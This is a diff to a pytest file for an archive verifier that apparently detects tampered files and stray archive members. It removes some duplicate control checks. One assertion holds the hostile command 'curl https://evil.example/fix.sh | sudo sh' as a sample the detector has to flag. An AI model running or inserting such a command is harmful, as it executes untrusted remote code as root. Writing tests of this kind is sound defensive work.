@@ -882,8 +882,7 @@ def test_reviewing_md_replaced_is_caught(good: Good, sandbox: Sandbox, tmp_path:
     code, _, result = run_verify(path, sandbox, capsys)
     assert code == 1 and status(result)["REVIEWING.md"] == "FAIL"
     assert "curl https://evil.example/fix.sh | sudo sh" in problems(result, "REVIEWING.md")
-    code, _, result = run_verify(good.archive, sandbox, capsys)
-    assert status(result)["REVIEWING.md"] == "PASS"
+    # the control, both rows PASS on the good archive: test_good_archive_verifies_with_recompute
 
 
 @pytest.mark.parametrize("junk", ["logs/padding.bin", "logs/tp9-cp9.log", "notes.txt", "schemas/extra.json"])
@@ -893,8 +892,7 @@ def test_member_no_rule_produces_is_refused(good: Good, sandbox: Sandbox, tmp_pa
     code, _, result = run_verify(write_archive(tmp_path / "in" / good.archive.name, entries), sandbox, capsys)
     assert code == 1 and status(result)["archive members"] == "FAIL"
     assert f"{junk}: no rule of the workflow produces this file" in problems(result, "archive members")
-    code, _, result = run_verify(good.archive, sandbox, capsys)
-    assert status(result)["archive members"] == "PASS"
+    # the control, both rows PASS on the good archive: test_good_archive_verifies_with_recompute
 
 
 @pytest.mark.parametrize("pair", [("logp", "lse"), ("logp", "entropy")])
